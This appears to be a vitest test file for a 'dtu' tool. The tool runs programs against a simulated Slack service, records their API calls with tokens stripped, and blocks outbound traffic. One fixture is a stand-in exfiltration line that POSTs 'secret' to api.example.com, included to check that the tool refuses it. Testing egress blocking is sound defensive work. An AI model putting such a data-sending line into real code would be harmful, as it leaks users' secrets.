import { spawnSync } from 'node:child_process'
import { readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { dtu, folder, up } from './dtu.ts'

/** A program with the vendor's host in it: an SDK that was told of nothing but a token. */
const APP = `
import { createRequire } from 'node:module'
const { WebClient } = createRequire(${JSON.stringify(new URL('../package.json', import.meta.url).pathname)})('@slack/web-api')
const { ts, channel } = await new WebClient(process.env.SLACK_BOT_TOKEN).chat.postMessage({ channel: '#general', text: 'hard-coded' })
console.log(JSON.stringify({ ts, channel }))`

const LEAK = `const reply = await fetch('https://api.example.com/v1/leak', { method: 'POST', body: 'secret' })
console.log(reply.status)`

const node = (...args: readonly string[]) => ['--', process.execPath, ...args]
const unchanged = () =>
  ['/etc/hosts', '/etc/resolv.conf', '/etc/nsswitch.conf'].map((file) => readFileSync(file, 'utf8'))

function program(text: string): { cwd: string; file: string } {
  const cwd = folder()
  const file = join(cwd, 'app.mjs')
  writeFileSync(file, text)
  return { cwd, file }
}

/** Root on Linux may give a program files of its own in the places of the system's. */
const canConfine = () =>
  process.getuid?.() === 0 && spawnSync('unshare', ['--mount', '--propagation', 'private', 'true']).status === 0

const ways = [
  ['in a private namespace', [], canConfine()],
  ['by proxy and variables', ['--no-namespace'], true],
] as const

for (const [way, options, possible] of ways)
  describe.skipIf(!possible)(`${way}${possible ? '' : ' (skipped: not root on Linux)'}`, () => {
    test('an SDK with the vendor’s host in it reaches the twin of a new universe, whose journal is summed up', async () => {
      const { cwd, file } = program(APP)
      const { code, out, err } = await dtu(cwd, ['exec', ...options, '--universe', 'new', ...node(file)])
      expect({ code, err }).toMatchObject({ code: 0 })
      expect(JSON.parse(out)).toMatchObject({ ts: expect.stringMatching(/^\d+\.\d{6}$/) })
      expect(err).toMatch(/slack +chat\.postMessage +200 +1/)
    })

    test('what a program calls is recorded under the vendor’s own address, without its token', async () => {
      const { cwd, file } = program(APP)
      const { code, err } = await dtu(cwd, [
        'exec',
        ...options,
        '--universe',
        'new',
        '--record',
        'app.har',
        ...node(file),
      ])
      expect({ code, err }).toMatchObject({ code: 0, err: expect.stringContaining('1 exchanges are in app.har') })
      const text = readFileSync(join(cwd, 'app.har'), 'utf8')
      const [entry] = JSON.parse(text).log.entries
      expect(entry).toMatchObject({
        _x: { service: 'slack' },
        request: { url: 'https://slack.com/api/chat.postMessage' },
      })
      expect(JSON.parse(entry.response.content.text)).toMatchObject({ ok: true })
      expect(text).not.toMatch(/xoxb-\d/)
    })

    test('a call that would leave the machine fails, is named, and fails the run', async () => {
      const { cwd, file } = program(LEAK)
      const before = unchanged()
      const { code, out, err } = await dtu(cwd, ['exec', ...options, ...node(file)])
      expect({ code, out }).toEqual({ code: 1, out: '502\n' })
      expect(err).toContain('outside: api.example.com was refused: POST /v1/leak')
      expect(unchanged()).toEqual(before)
      if (canConfine()) expect(readFileSync('/proc/self/mounts', 'utf8')).not.toContain('dtu-exec')
    })

    test('the exit code and the arguments are the program’s own', async () => {
      const { cwd, file } = program('console.log(process.argv.slice(2).join("|")); process.exitCode = 7')
      expect(await dtu(cwd, ['exec', ...options, ...node(file, '--json', 'a b', '$HOME')])).toMatchObject({
        code: 7,
        out: '--json|a b|$HOME\n',
      })
    })

    test('it runs in the universe that is up, and leaves there what it did', async () => {
      const { cwd, file } = program(APP)
      await up(cwd, 'slack')
      expect(await dtu(cwd, ['exec', ...options, ...node(file)])).toMatchObject({ code: 0 })
      const { out } = await dtu(cwd, ['query', '--json', 'SELECT text FROM slack_messages'])
      expect(JSON.parse(out)).toContainEqual({ text: 'hard-coded' })
      expect(await dtu(cwd, ['exec', '--universe', 'new', ...options, ...node(file)])).toMatchObject({ code: 0 })
      expect((await dtu(cwd, ['universe', 'list', '--json'])).out).not.toContain('u1')
    })
  })

test('a program that is not there is said so', async () => {
  expect(await dtu(folder(), ['exec', '--no-namespace', '--', 'no-such-program'])).toMatchObject({
    code: 1,
    err: expect.stringContaining('no-such-program cannot be started'),
  })
})

test('a universe that is not there is refused', async () => {
  expect(await dtu(folder(), ['exec', '--universe', 'nowhere', '--', 'true'])).toMatchObject({
    code: 1,
    err: expect.stringContaining('no universe runs'),
  })
})
